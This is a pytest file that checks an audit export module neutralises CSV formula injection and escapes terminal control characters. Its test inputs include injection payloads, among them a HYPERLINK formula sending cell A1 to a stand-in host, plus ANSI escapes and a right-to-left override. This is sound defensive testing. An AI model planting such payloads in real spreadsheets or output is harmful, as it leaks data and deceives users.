"""The formats of an export, which neither spreadsheets nor terminals interpret as more than text."""

from __future__ import annotations

import csv
import io
import json

import pytest

from core.audit.export_format import COLUMNS, csv_lines, json_lines


def csv_cell(text: str) -> str:
    """Write a text as a cell of a CSV file, and return what a reader of the file gets."""
    ((cell,),) = csv.reader(io.StringIO(csv_lines([[text]]), newline=""))
    return cell


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+1", "-1", "@SUM(A1)", " =1+1", "\n=1", "\t=1", "\r=1", "\x00=1", " \t\r\n @x", "\x1f-1", "\xa0=1"],
)
def test_a_cell_is_never_a_formula(text: str) -> None:
    cell = csv_cell(text)
    # It starts with a quote, which marks a text, or with an escaped control character.
    assert cell.lstrip(" ").startswith(("'", "\\"))
    assert cell.lstrip("'").endswith(text[-2:])


@pytest.mark.parametrize("text", ["a=b", "10-5", "(+1)", "'quoted'", "x@y.test", "", "7"])
def test_a_cell_that_is_not_a_formula_is_not_changed(text: str) -> None:
    assert csv_cell(text) == text


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("\x1b[31mred\x07", "\\x1b[31mred\\x07"),
        ("a\tb\rc\x00d", "a\\tb\\rc\\x00d"),
        ("turned \N{RIGHT-TO-LEFT OVERRIDE}round", "turned \\u202eround"),
        ("C1: \x9b2J", "C1: \\x9b2J"),
        ("a\N{LINE SEPARATOR}b", "a\\u2028b"),
    ],
)
def test_control_characters_are_escaped_in_a_cell(text: str, cell: str) -> None:
    assert csv_cell(text) == cell


@pytest.mark.parametrize(
    "text", ['He said "no", twice', "two\nlines", "a,b;c", '"', '""', ',\n"', "ends in a newline\n", "日本語 é"]
)
def test_quotes_newlines_and_commas_are_kept_in_a_cell(text: str) -> None:
    assert csv_cell(text) == text


@pytest.mark.parametrize("delimiter", [";", "\t", ","])
@pytest.mark.parametrize(
    "text",
    [
        'Note;=HYPERLINK("http://x.example/?"&A1;"open")',
        "a,b;=1+1",
        "a;  +1;@x;-1",
        'a;"=1+1"',
        "a;'=1+1",
        'a;""=1+1',
        "a\n=1+1",
        'a\n"=1+1"\n-1',
        "a\t=1+1",
        "a;\t=1+1",
        "a;＝1+1",
        ";=1",
    ],
)
def test_no_cell_is_a_formula_for_a_reader_that_splits_at_another_character(text: str, delimiter: str) -> None:
    lines = csv_lines([["1", text, "2"]])
    # Readers differ in what they make of a quote inside a cell, so it's tried with and without quotes.
    for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
        for row in csv.reader(io.StringIO(lines, newline=""), delimiter=delimiter, quoting=quoting):
            assert not [cell for cell in row if cell.strip(' \n\r"').startswith(tuple("=+-@＝"))], row


@pytest.mark.parametrize("number", [2**53, 7234567890123456789, -(2**63)])
def test_an_integer_that_others_would_round_is_a_string_in_a_json_line(number: int) -> None:
    assert json.loads(json_lines([[number] * len(COLUMNS)]))["number"] == str(number)
    assert csv_cell(str(number)).lstrip("'") == str(number)


@pytest.mark.parametrize("number", [0, 7, 2**53 - 1, -(2**53) + 1])
def test_an_integer_that_is_exact_everywhere_stays_one(number: int) -> None:
    assert json.loads(json_lines([[number] * len(COLUMNS)]))["number"] == number


def test_a_json_line_keeps_every_character_in_ascii() -> None:
    text = '=1+1 red \x1b[31m "q" \\ \x00 \N{LINE SEPARATOR} \N{TOOTH} é\r\n'
    line = json_lines([[text] * len(COLUMNS)])
    assert json.loads(line) == dict.fromkeys(COLUMNS, text)
    assert line.isascii()
    assert line.count("\n") == 1
